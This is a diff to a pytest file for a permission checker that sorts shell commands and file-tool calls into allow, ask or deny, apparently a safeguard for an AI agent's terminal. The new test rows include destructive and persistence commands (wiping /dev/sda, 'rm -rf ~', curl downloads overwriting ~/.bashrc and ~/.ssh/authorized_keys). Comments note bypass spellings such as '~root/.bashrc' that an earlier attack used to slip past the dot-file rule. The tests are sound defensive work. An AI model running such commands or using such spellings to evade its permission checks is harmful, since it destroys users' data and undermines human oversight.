@@ -3,6 +3,8 @@ a table of commands, the file tools, who a rule is for, and how parts, opaque co
 
 from __future__ import annotations
 
+import os
+import pwd
 from typing import Any
 
 import pytest
@@ -61,6 +63,11 @@ TABLE = [
     ("echo reboot", "allow", "default"),
     ("systemctl status nginx", "allow", "default"),
     ("git log --oneline | head", "allow", "default"),
+    ("find build -name '*.o' -delete", "allow", "default"),
+    ("rsync -a src/ ../lib/src/", "allow", "default"),
+    ("git push origin main:main", "allow", "default"),
+    ("cp /dev/sda1 disk.img", "allow", "default"),
+    ("busybox ls -la", "allow", "default"),
     # Asks.
     ("sudo apt install x", "ask", "privilege"),
     ("env FOO=1 sudo rm x", "ask", "privilege"),
@@ -95,6 +102,25 @@ TABLE = [
     ("find /var/log -name '*.gz' -exec rm -rf {} +", "ask", "rm-recursive-outside-repos"),
     ("ls | xargs rm -rf", "ask", "rm-recursive-outside-repos"),
     ('rm -rf "$DIR"', "ask", "rm-recursive-outside-repos"),
+    # Spellings a second attack found (issue 31).
+    ("busybox rm -rf /tmp/x", "ask", "rm-recursive-outside-repos"),
+    ("find ~ -name '*.bak' -delete", "ask", "rm-recursive-outside-repos"),
+    ("find / -delete", "ask", "rm-recursive-outside-repos"),
+    ("rsync -a --delete src/ backup:/srv/src/", "ask", "rsync-delete"),
+    ("rsync -a --delete-after src/ /srv/src/", "ask", "rsync-delete"),
+    ("git push --mirror", "ask", "force-push"),
+    ("git push origin :main", "ask", "force-push"),
+    ("git push origin :refs/heads/main", "ask", "force-push"),
+    ("git push --delete origin main", "ask", "force-push"),
+    ("git push -d origin main", "ask", "force-push"),
+    ("dd if=payload of=~/.bashrc", "ask", "home-dotfiles"),
+    ("curl -sLo ~/.bashrc https://example.com/x", "ask", "home-dotfiles"),
+    ("curl -o ~/.ssh/authorized_keys https://example.com/k", "ask", "home-dotfiles"),
+    ("wget -qO ~/.profile https://example.com/x", "ask", "home-dotfiles"),
+    ("python3 -c 'import os; os.system(\"rm -rf ~\")'", "ask", "opaque"),
+    ("perl -e 'system q(id)'", "ask", "opaque"),
+    ('node -e \'require("child_process").execSync("id")\'', "ask", "opaque"),
+    ("python3 - <<'EOF'\nimport os\nos.system('id')\nEOF", "ask", "opaque"),
     # Denies.
     ("mkfs.ext4 /dev/sda1", "deny", "make-filesystem"),
     ("mkfs -t ext4 /dev/sdb", "deny", "make-filesystem"),
@@ -109,6 +135,10 @@ TABLE = [
     ("make && halt", "deny", "power-off"),
     ("eval 'poweroff'", "deny", "power-off"),
     ("doas reboot", "deny", "power-off"),
+    ("mkswap /dev/sdb2", "deny", "make-filesystem"),
+    ("cp /dev/zero /dev/sda", "deny", "write-block-device"),
+    ("sudo mv disk.img /dev/nvme0n1", "deny", "write-block-device"),
+    ("busybox mkfs.ext2 /dev/sdb1", "deny", "make-filesystem"),
     # Opaque: asks, since the recommended rules ask.
     ('eval "$CMD"', "ask", "opaque"),
     ("$CMD args", "ask", "opaque"),
@@ -298,3 +328,49 @@ def test_a_verdict_names_the_command_its_rule_matched() -> None:
     assert verdict.rule_id == "privilege"
     assert "sudo -u root rm -rf x" in verdict.reason
     assert "> ~/.bashrc" in decide("echo x > ~/.bashrc").reason
+
+
+# `~name`: that user's home (issue 31: `~root/.bashrc` passed the dot-file rule)
+
+ROOT_HOME = pwd.getpwnam("root").pw_dir
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "echo x > ~root/.bashrc",
+        "echo x >> ~root/.ssh/authorized_keys",
+        "cp evil ~root/.profile",
+        "tee -a ~root/.bashrc",
+        "cd ~root && echo x > .bashrc",
+        "dd if=x of=~root/.bashrc",
+        "echo x > ~/.bashrc",
+        f"echo x > {ROOT_HOME}/.bashrc",
+    ],
+)
+def test_a_users_home_spelt_with_their_name_is_that_home(command: str) -> None:
+    verdict = decide_call("terminal_exec", {"command": command}, home=ROOT_HOME)
+    assert (verdict.decision, verdict.rule_id) == ("ask", "home-dotfiles"), verdict.reason
+
+
+def test_the_file_tools_resolve_a_users_home_by_name_too() -> None:
+    verdict = decide_call("file_write", {"path": "~root/.bashrc", "content": "x"}, home=ROOT_HOME)
+    assert (verdict.decision, verdict.rule_id) == ("ask", "home-dotfiles")
+    me = pwd.getpwuid(os.getuid())
+    mine = decide_call("file_edit", {"path": f"~{me.pw_name}/.gitconfig"}, home=me.pw_dir)
+    assert (mine.decision, mine.rule_id) == ("ask", "home-dotfiles")
+
+
+@pytest.mark.parametrize(
+    ("tool", "arguments"),
+    [
+        ("terminal_exec", {"command": "echo x > ~no-such-user-31/.bashrc"}),
+        ("terminal_exec", {"command": "cat ~no-such-user-31/notes"}),
+        ("terminal_exec", {"command": "cp x ~+/y"}),
+        ("file_write", {"path": "~no-such-user-31/.bashrc", "content": "x"}),
+    ],
+)
+def test_a_tilde_naming_no_user_is_opaque(tool: str, arguments: dict[str, Any]) -> None:
+    verdict = decide_call(tool, arguments)
+    assert (verdict.decision, verdict.rule_id) == ("ask", "opaque")
+    assert "names no user of this host" in verdict.reason
